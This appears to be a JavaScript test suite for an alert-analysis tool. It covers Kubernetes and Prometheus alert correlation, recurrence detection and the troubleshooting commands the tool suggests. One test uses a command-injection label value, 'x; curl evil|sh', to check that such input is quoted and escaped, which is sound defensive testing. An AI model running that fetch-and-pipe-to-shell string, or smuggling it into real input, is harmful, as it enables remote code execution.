/**
 * The built-in analysis on realistic alert storms: for each scenario, the findings a person
 * paged should read first. No network, no store: the same pure function the analyze job runs.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { alert, analyse, DAY, finding, kinds } from './support/storm.js';

describe('built-in analysis of alert storms', () => {
  it('1. a node going down takes its pods: the node is the probable origin', () => {
    const node = alert('NodeDown', { instance: 'n1:9100', node: 'n1', job: 'node-exporter' }, 20);
    const pods = ['web-7c9d8f6b5d-abcde', 'api-6f7c8d9b4c-fghij', 'cache-0', 'worker-5b6c7d8e9f-klmno'].map((pod, i) =>
      alert('KubePodNotReady', { namespace: `ns${i}`, pod, node: 'n1' }, 14),
    );
    const a = analyse(pods, [node]);
    for (const i of pods.keys()) {
      const origin = finding(a, 'probable-origin', i);
      assert.equal(origin.alertname, 'NodeDown');
      assert.equal(origin.self, false);
    }
    assert.deepEqual(finding(a, 'widespread').sharedLabels, { node: 'n1' });
    assert.equal(finding(a, 'widespread').targets, 4);
    assert.deepEqual(a.alerts[0]?.correlated.map((r) => [r.alertname, r.shared]), [['NodeDown', ['host', 'node']]]);
    assert.equal(a.summary.origin?.alertname, 'NodeDown');
  });

  it('2. a bad deploy: crash-looping pods start first, the error rate of the same workload follows', () => {
    const crashing = ['api-5d8c7b9f6d-x2x7k', 'api-5d8c7b9f6d-q8w9e', 'api-5d8c7b9f6d-z1z2z'].map((pod) =>
      alert('KubePodCrashLooping', { namespace: 'prod', pod, container: 'api' }, 12),
    );
    const errors = alert('HighErrorRate', { namespace: 'prod', service: 'api', deployment: 'api' }, 8);
    const a = analyse([errors], crashing);
    const origin = finding(a, 'probable-origin');
    assert.equal(origin.alertname, 'KubePodCrashLooping');
    assert.ok(a.alerts[0]?.correlated.every((r) => r.alertname === 'KubePodCrashLooping' && r.shared.includes('workload')));
    assert.equal(finding(a, 'correlated').count, 3);
    assert.equal(a.alerts[0]?.knowledge?.layer, 'application');
    assert.ok(a.alerts[0]?.knowledge?.commands.some((c) => c.run === 'kubectl -n prod rollout undo deployment/api'));
  });

  it('3. a filling disk that came back: recurring, with the value that changed since last time', () => {
    const disk = alert('NodeFilesystemSpaceFillingUp', { instance: 'db-1:9100', mountpoint: '/var', device: '/dev/sda1', fstype: 'ext4' }, 30, {
      annotations: { value: '9%', description: 'Filesystem on /dev/sda1 has 9% left' },
      history: [[3 * DAY / 60_000, 3 * DAY / 60_000 - 60], [2 * DAY / 60_000, 2 * DAY / 60_000 - 90]],
      before: { annotations: { value: '15%', description: 'Filesystem on /dev/sda1 has 15% left' }, value: '15%' },
    });
    const a = analyse([disk]);
    assert.equal(finding(a, 'recurring').occurrences, 3);
    const changed = finding(a, 'changed');
    assert.deepEqual(changed.changes.find((c) => c.field === 'value'), { field: 'value', key: 'value', before: '15%', after: '9%' });
    assert.ok(changed.changes.some((c) => c.field === 'annotation' && c.key === 'description'));
    assert.ok(a.alerts[0]?.knowledge?.commands.some((c) => c.run === 'df -h /var'));
    assert.ok(a.alerts[0]?.knowledge?.queries.some((q) => q.promql.includes('instance="db-1:9100", mountpoint="/var"')));
  });

  it('4. a flapping probe: several firings within the hour', () => {
    const probe = alert('BlackboxProbeFailed', { instance: 'https://shop.example.com', job: 'blackbox', module: 'http_2xx' }, 5, {
      history: [[50, 45], [35, 30], [20, 15]],
    });
    const a = analyse([probe]);
    assert.ok(finding(a, 'flapping').stateChanges >= 4);
    assert.ok(kinds(a).includes('recurring'));
    assert.equal(a.alerts[0]?.knowledge?.source, 'blackbox');
  });

  it('5. one rule down on many targets: widespread, with what they all share', () => {
    const targets = Array.from({ length: 6 }, (_, i) => alert('TargetDown', { job: 'api', instance: `10.0.0.${i}:8080`, namespace: 'prod' }, 3));
    const a = analyse(targets);
    const w = finding(a, 'widespread');
    assert.equal(w.targets, 6);
    assert.deepEqual(w.sharedLabels, { job: 'api', namespace: 'prod' });
    assert.equal(a.summary.alertnames[0]?.count, 6);
    assert.equal(a.summary.origin, null, 'six equal alerts sharing only a job have no single origin');
  });

  it('6. a certificate about to expire, matched by pattern, first time', () => {
    const cert = alert('MyTLSCertExpiresSoon', { instance: 'shop.example.com:443', job: 'blackbox' }, 60);
    const a = analyse([cert]);
    assert.deepEqual(kinds(a), ['first-firing']);
    assert.equal(a.alerts[0]?.knowledge?.matchedBy, 'pattern');
    assert.ok(a.alerts[0]?.knowledge?.commands.some((c) => c.run.includes('-connect shop.example.com:443')));
  });

  it('7. an OOM kill and a crash loop on the same pod are correlated by the pod', () => {
    const oom = alert('KubeContainerOOMKilled', { namespace: 'prod', pod: 'search-0', container: 'es' }, 10);
    const loop = alert('KubePodCrashLooping', { namespace: 'prod', pod: 'search-0', container: 'es' }, 9);
    const a = analyse([oom, loop]);
    assert.deepEqual(a.alerts[0]?.correlated[0]?.shared, ['pod', 'workload', 'namespace']);
    assert.equal(a.alerts[0]?.knowledge?.summary.includes('prod/search-0'), true);
  });

  it('8. CPU throttling alone: the knowledge base fills the pod into its query', () => {
    const a = analyse([alert('CPUThrottlingHigh', { namespace: 'prod', pod: 'api-0', container: 'api' }, 15)]);
    assert.deepEqual(a.alerts[0]?.correlated, []);
    assert.ok(a.alerts[0]?.knowledge?.queries[0]?.promql.includes('namespace="prod", pod="api-0"'));
  });

  it('9. Watchdog is explained as the pipeline heartbeat, not a problem', () => {
    const a = analyse([alert('Watchdog', { severity: 'none' }, 600)]);
    assert.match(a.alerts[0]?.knowledge?.summary ?? '', /always fires/);
    assert.deepEqual(a.alerts[0]?.target, []);
  });

  it('10. an alert firing for days is called out as long-running', () => {
    const a = analyse([alert('KubeQuotaAlmostFull', { namespace: 'team-a', resourcequota: 'compute' }, (3 * DAY) / 60_000)]);
    assert.match(finding(a, 'long-running').text, /3d/);
  });

  it('11. a failed job gets its exact describe command', () => {
    const a = analyse([alert('KubeJobFailed', { namespace: 'batch', job_name: 'nightly-report-28623' }, 5)]);
    assert.ok(a.alerts[0]?.knowledge?.commands.some((c) => c.run === 'kubectl -n batch describe job nightly-report-28623' && c.complete));
  });

  it('12. a filling volume and slow requests in the same namespace are related, weakly', () => {
    const pvc = alert('KubePersistentVolumeFillingUp', { namespace: 'shop', persistentvolumeclaim: 'data-db-0' }, 40);
    const slow = alert('HighLatency', { namespace: 'shop', service: 'checkout' }, 10);
    const a = analyse([slow], [pvc]);
    assert.deepEqual(a.alerts[0]?.correlated.map((r) => [r.alertname, r.shared]), [['KubePersistentVolumeFillingUp', ['namespace']]]);
    assert.equal(a.summary.origin, null, 'a namespace alone is too weak to name an origin');
  });

  it('13. network errors and a target down on the same host meet through the host name', () => {
    const nic = alert('NodeNetworkReceiveErrs', { instance: 'edge-2:9100', device: 'eth0', job: 'node-exporter' }, 25);
    const down = alert('TargetDown', { instance: 'edge-2:8080', job: 'haproxy' }, 5);
    const a = analyse([down], [nic]);
    assert.deepEqual(a.alerts[0]?.correlated.map((r) => [r.alertname, r.shared]), [['NodeNetworkReceiveErrs', ['host']]]);
  });

  it('14. high CPU and high load on one machine, ranked by overlap and time', () => {
    const cpu = alert('NodeCPUHighUsage', { instance: 'app-3:9100', job: 'node-exporter' }, 12);
    const load = alert('NodeSystemSaturation', { instance: 'app-3:9100', job: 'node-exporter' }, 11);
    const mem = alert('NodeMemoryHighUtilization', { instance: 'app-3:9100', job: 'other-exporter' }, 300);
    const a = analyse([cpu], [load, mem]);
    assert.deepEqual(a.alerts[0]?.correlated.map((r) => r.alertname), ['NodeSystemSaturation', 'NodeMemoryHighUtilization']);
    assert.ok((a.alerts[0]?.correlated[0]?.score ?? 0) > (a.alerts[0]?.correlated[1]?.score ?? 0));
  });

  it('15. an alert no one has described still gets history and relations, without knowledge', () => {
    const a = analyse([alert('AcmeBillingReconcilerStuck', { namespace: 'billing', instance: 'rec-1' }, 7)]);
    assert.equal(a.alerts[0]?.knowledge, null);
    assert.deepEqual(kinds(a), ['first-firing']);
  });

  it('16. hostile label values are quoted in commands and escaped in PromQL', () => {
    const a = analyse([alert('KubePodCrashLooping', { namespace: 'prod', pod: 'x; curl evil|sh', container: 'c"1' }, 3)]);
    const k = a.alerts[0]?.knowledge;
    assert.ok(k?.commands.some((c) => c.run === "kubectl -n prod describe pod 'x; curl evil|sh'"));
    assert.ok(k?.queries.some((q) => q.promql.includes('pod="x; curl evil|sh"')));
    assert.ok(k?.commands.some((c) => c.run.includes(`-c 'c"1'`)));
  });

  it('17. a description that changed since the last firing is reported, unchanged labels are not', () => {
    const a = analyse([
      alert('HighLatency', { service: 'search', job: 'search' }, 4, {
        annotations: { description: 'p99 is 2.3s' },
        history: [[600, 560]],
        before: { annotations: { description: 'p99 is 1.1s' } },
      }),
    ]);
    assert.deepEqual(finding(a, 'changed').changes, [{ field: 'annotation', key: 'description', before: 'p99 is 1.1s', after: 'p99 is 2.3s' }]);
  });

  it('18. a storm of 100 alerts of one rule is one group with one summary', () => {
    const storm = Array.from({ length: 100 }, (_, i) => alert('KubePodNotReady', { namespace: 'batch', pod: `runner-${i}`, job: 'kube-state-metrics' }, 2));
    const a = analyse(storm);
    assert.equal(a.alerts.length, 100);
    assert.equal(a.summary.alertCount, 100);
    assert.equal(finding(a, 'widespread', 57).targets, 100);
    assert.deepEqual(a.summary.commonLabels, { alertname: 'KubePodNotReady', namespace: 'batch', job: 'kube-state-metrics' });
  });

  it('19. a daily recurrence shows its mean time between firings', () => {
    const a = analyse([
      alert('KubeCronJobRunning', { namespace: 'ops', cronjob: 'backup' }, 30, {
        history: [[(1 * DAY) / 60_000 + 30, DAY / 60_000], [(2 * DAY) / 60_000 + 30, (2 * DAY) / 60_000], [(3 * DAY) / 60_000 + 30, (3 * DAY) / 60_000]],
      }),
    ]);
    const r = finding(a, 'recurring');
    assert.equal(r.occurrences, 4);
    assert.equal(r.meanTimeBetweenFiringsMs, DAY);
  });

  it('20. a StatefulSet short of replicas and its not-ready pod share the workload', () => {
    const sts = alert('KubeStatefulSetReplicasMismatch', { namespace: 'data', statefulset: 'kafka' }, 20);
    const pod = alert('KubePodNotReady', { namespace: 'data', pod: 'kafka-2' }, 22);
    const a = analyse([sts], [pod]);
    assert.deepEqual(a.alerts[0]?.correlated[0]?.shared, ['workload', 'namespace']);
  });

  it('21. a NotReady node explains its daemon pods and the stuck rollout', () => {
    const node = alert('KubeNodeNotReady', { node: 'n3', job: 'kube-state-metrics' }, 30);
    const fluentd = alert('KubePodNotReady', { namespace: 'logging', pod: 'fluentd-7xk2p', node: 'n3' }, 20);
    const exporter = alert('KubePodNotReady', { namespace: 'monitoring', pod: 'node-exporter-q9w8e', node: 'n3' }, 20);
    const a = analyse([fluentd, exporter], [node]);
    assert.equal(finding(a, 'probable-origin').alertname, 'KubeNodeNotReady');
    assert.equal(finding(a, 'probable-origin', 1).alertname, 'KubeNodeNotReady');
  });

  it('22. when the origin is in the group, its own report says so', () => {
    const node = alert('NodeDown', { instance: 'n7:9100', node: 'n7' }, 15);
    const pods = [alert('KubePodNotReady', { namespace: 'a', pod: 'p-0', node: 'n7' }, 9), alert('KubePodNotReady', { namespace: 'b', pod: 'q-0', node: 'n7' }, 9)];
    const a = analyse([node, ...pods]);
    const origin = finding(a, 'probable-origin', 0);
    assert.equal(origin.self, true);
    assert.match(origin.text, /^This alert started first/);
    assert.equal(a.summary.origin?.explains, 2);
  });

  it('23. a resolved alert in history does not count as firing now', () => {
    const old = alert('NodeDown', { instance: 'n8:9100', node: 'n8' }, 300, { status: 'resolved' });
    const pod = alert('KubePodNotReady', { namespace: 'a', pod: 'r-0', node: 'n8' }, 5);
    const a = analyse([pod], [old]);
    assert.deepEqual(a.alerts[0]?.correlated, []);
    assert.ok(!kinds(a).includes('probable-origin'));
  });
});
